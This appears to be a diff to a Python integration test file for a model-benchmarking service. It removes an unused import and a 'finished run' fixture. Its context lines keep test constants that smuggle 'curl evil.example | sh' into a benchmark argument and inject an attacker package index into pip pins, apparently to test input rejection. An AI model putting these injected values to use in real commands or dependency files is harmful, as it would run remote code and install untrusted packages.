@@ -16,7 +16,7 @@ from farm.fleet.models import Node
 from farm.runs import selectors
 from farm.runs.models import CellDocument, Divergence, FinishedDocument, Report, Run
 from farm.runs.services.conclusion import conclude_runs
-from tests.integration.runs.making import claim, first_block, measure, post
+from tests.integration.runs.making import claim, first_block, post
 from tests.integration.runs.test_divergences import answer, ask
 from tests.unit.rules.making import make_facts
 
@@ -25,14 +25,6 @@ ApiOf = Callable[..., Client]
 HOSTILE = "onnxfarm bench 'encoder.onnx; curl evil.example | sh"
 OWN = "onnxfarm bench encoder.onnx --ort 1.29.0 --provider CPUExecutionProvider --batch 1 --threads 1 --precision fp32"
 PIP = {"numpy": "2.4.6\n--extra-index-url https://evil.example/simple", "-r": "https://evil.example/list"}
-
-
-@pytest.fixture
-def done(run: Run, node: Node) -> Run:
-    """A finished run."""
-    measure(node, first_block(run), [1.0, 1.2, 1.0])
-    run.refresh_from_db()
-    return run
 
 
 def put_words(text: str) -> str:
